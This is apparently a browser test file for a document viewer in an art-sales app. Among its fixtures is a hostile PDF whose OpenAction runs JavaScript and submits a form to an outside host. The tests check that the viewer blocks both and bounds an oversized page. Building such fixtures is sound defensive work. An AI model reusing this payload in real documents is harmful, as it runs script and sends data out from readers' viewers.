// A document is looked at where it is kept: its pages, without a network, whatever its file does.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { accessibilityProblems, openDevice, overflow, readyForOffline, signInAs, type Device } from '#tests/support/browser/browser.ts';
import { openRecord, sectionOf, unfoldFilled } from '#tests/support/browser/record-form.ts';
import { makeSeller, type Seller } from '#tests/support/people/market-people.ts';
import { addDocument } from '#tests/support/people/record-file.ts';
import { handPdf, lockedPdf, printPdf, scanPage } from '#tests/support/pictures/pdf-files.ts';
import { startTestServer, type TestServer } from '#tests/support/servers/server.ts';

let server: TestServer;
let seller: Seller;
let path: string;
let phone: Device;

/** Opens its page as soon as it is shown: a script, a form that is sent, and a page of the size of a house. */
const hostile = handPdf({
  root: '/OpenAction 5 0 R',
  extra: '5 0 obj << /S /JavaScript /JS (app.alert\\("run"\\); this.submitForm\\("https://example.com/"\\)) >> endobj',
  page: '/AA << /O 5 0 R >>',
  box: '0 0 200000 140000',
});

beforeAll(async () => {
  server = await startTestServer();
  seller = await makeSeller(server);
  const pieceId = await seller.add({ title: 'Harbor at Dusk' });
  path = `/artwork/${pieceId}?part=record`;
  const invoice = await printPdf(['<h1>Invoice 1923</h1><p>Sold to Mrs. Whitlock.</p>', '<h1>Terms</h1>', '<h1>Receipt</h1>']);
  const files = {
    'invoice.pdf': { bytes: invoice, type: 'application/pdf' },
    'letter.jpg': {
      bytes: await scanPage(
        '<p>Dear Sir,</p><p>the picture that you saw in our rooms is still to be had, and we keep it for you until the first of May.</p>',
      ),
      type: 'image/jpeg',
    },
    'locked.pdf': { bytes: lockedPdf(), type: 'application/pdf' },
    'broken.pdf': { bytes: invoice.subarray(0, 900), type: 'application/pdf' },
    'odd.pdf': { bytes: Buffer.from('PK\x03\x04 not what it says'), type: 'application/pdf' },
    'hostile.pdf': { bytes: hostile, type: 'application/pdf' },
    'table.xlsx': { bytes: Buffer.from('PK\x03\x04'), type: 'application/vnd.ms-excel' },
  };
  for (const [name, { bytes, type }] of Object.entries(files))
    await addDocument(server, seller, pieceId, { title: name, name, type, bytes });
  phone = await openDevice(server.url, { viewport: { width: 390, height: 844 } });
  await signInAs(phone.page, seller.person.email, seller.person.password);
  await phone.page.goto(path);
  await sectionOf(phone.page, 'Documents').getByText('7', { exact: true }).waitFor();
});
afterAll(async () => {
  await phone.close();
  await server.stop();
});

afterEach(async () => {
  // The innermost first: the record and what was opened from it.
  const open = await phone.page.locator('dialog[open]').all();
  for (const dialog of open.toReversed()) await dialog.press('Escape');
  await phone.page.locator('dialog[open]').first().waitFor({ state: 'detached' });
});

const show = async (name: string) => {
  const panel = await openRecord(phone.page, 'Documents', `Edit document: ${name}`);
  await panel.getByRole('button', { name: `Show ${name}` }).click();
  return phone.page.getByRole('dialog', { name });
};
/** Pixels of the small picture in its row, 0 while there is none. */
const widthInRow = (name: string): Promise<number> =>
  sectionOf(phone.page, 'Documents')
    .getByRole('button', { name: `Edit document: ${name}` })
    .evaluate((row) => row.querySelector('img')?.naturalWidth ?? 0);
/** Share of the page's pixels that are not white. */
const inked = (): Promise<number> =>
  phone.page.locator('dialog canvas').evaluate((canvas: HTMLCanvasElement) => {
    const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
    let dark = 0;
    for (let at = 0; at < pixels.length; at += 4) if ((pixels[at] ?? 255) < 200) dark += 1;
    return dark / (canvas.width * canvas.height);
  });

describe('a document', () => {
  it('is shown page by page, with buttons and keys, enlarged, and read aloud', async () => {
    const dialog = await show('invoice.pdf');
    await dialog.getByRole('application', { name: 'Page 1 of invoice.pdf' }).waitFor();
    await expect.poll(() => dialog.getByText('Sold to Mrs. Whitlock.').count()).toBe(1);
    expect(await inked()).toBeGreaterThan(0.001);
    expect(await accessibilityProblems(phone.page)).toEqual([]);
    expect(await overflow(phone.page)).toBe(0);
    await dialog.getByRole('button', { name: 'Next page' }).click();
    await dialog.getByRole('application', { name: 'Page 2 of invoice.pdf' }).waitFor();
    await phone.page.keyboard.press('End');
    await dialog.getByRole('application', { name: 'Page 3 of invoice.pdf' }).waitFor();
    await dialog.getByText('Page 3 of 3').waitFor();
    expect(await dialog.getByRole('button', { name: 'Next page' }).isDisabled()).toBe(true);
    await dialog.getByRole('button', { name: 'Zoom in' }).click();
    await dialog.getByRole('button', { name: /^Show the whole page/ }).click();
    await phone.page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
  });

  it('that is a picture is shown as one', async () => {
    const dialog = await show('letter.jpg');
    await dialog.getByRole('application', { name: 'Page 1 of letter.jpg' }).waitFor();
    expect(await inked()).toBeGreaterThan(0.001);
    await dialog.getByRole('button', { name: 'Close the document' }).click();
  });

  // Planted: files that were never opened are fetched for their rows.
  it('has its first page in its row once its file is on this device, and the kind of its file before that', async () => {
    await expect.poll(() => widthInRow('invoice.pdf')).toBeGreaterThan(50);
    await expect.poll(() => widthInRow('letter.jpg')).toBeGreaterThan(50);
    expect(await widthInRow('hostile.pdf')).toBe(0);
    for (const kind of ['PDF', 'XLSX']) await sectionOf(phone.page, 'Documents').getByText(kind, { exact: true }).first().waitFor();
  });

  it('that is locked, damaged or something else says so, and of other kinds nothing is offered', async () => {
    for (const [name, words] of [
      ['locked.pdf', /locked with a password/],
      ['broken.pdf', /damaged/],
      ['odd.pdf', /Files of this kind cannot be shown/],
    ] as const) {
      const dialog = await show(name);
      await dialog.getByRole('alert').getByText(words).waitFor();
      await dialog.getByRole('button', { name: 'Close the document' }).click();
      await dialog.waitFor({ state: 'detached' });
      await phone.page.keyboard.press('Escape');
      await phone.page.locator('dialog[open]').waitFor({ state: 'detached' });
    }
    const table = await openRecord(phone.page, 'Documents', 'Edit document: table.xlsx');
    await table.getByRole('button', { name: 'Download table.xlsx' }).waitFor();
    expect(await table.getByRole('button', { name: 'Show table.xlsx' }).count()).toBe(0);
  });

  // Planted: the worker's script loses its policy, which the server's test of it notices too.
  it('that tries to run a script and to reach somebody else does neither, and is drawn within bounds', async () => {
    const seen: string[] = [];
    phone.page.on('dialog', (alert) => void seen.push(alert.message()));
    phone.page.on('request', (request) => {
      if (!request.url().startsWith(server.url) && !/^(blob|data):/.test(request.url())) seen.push(request.url());
    });
    const dialog = await show('hostile.pdf');
    await dialog.getByRole('application', { name: 'Page 1 of hostile.pdf' }).waitFor();
    const size = await phone.page.locator('dialog canvas').evaluate(({ width, height }: HTMLCanvasElement) => width * height);
    expect(size).toBeLessThanOrEqual(9_000_000);
    await dialog.getByRole('button', { name: 'Close the document' }).click();
    expect(seen).toEqual([]);
  });

  // Planted: the worker is not fetched ahead, or the fonts are not kept.
  it('that was opened here is shown without a network after a restart', async () => {
    await readyForOffline(phone.page);
    await phone.page.reload();
    const panel = await openRecord(phone.page, 'Documents', 'Edit document: invoice.pdf');
    await panel.getByRole('button', { name: 'Show invoice.pdf' }).waitFor();
    await expect
      .poll(
        () =>
          phone.page.evaluate(async () => [
            (await (await caches.open('verso-pdf')).keys()).length,
            (await (await caches.open('verso-assets')).keys()).some(({ url }) => url.includes('/pdf.wasm-worker')),
          ]),
        { timeout: 30_000 },
      )
      .toEqual([17, true]);
    await phone.restart({ offline: true });
    await phone.page.goto(path);
    await unfoldFilled(phone.page, 'Documents');
    await expect.poll(() => widthInRow('invoice.pdf')).toBeGreaterThan(50);
    const dialog = await show('invoice.pdf');
    await dialog.getByRole('application', { name: 'Page 1 of invoice.pdf' }).waitFor();
    expect(await inked()).toBeGreaterThan(0.001);
    expect(phone.errors).toEqual([]);
  });
});
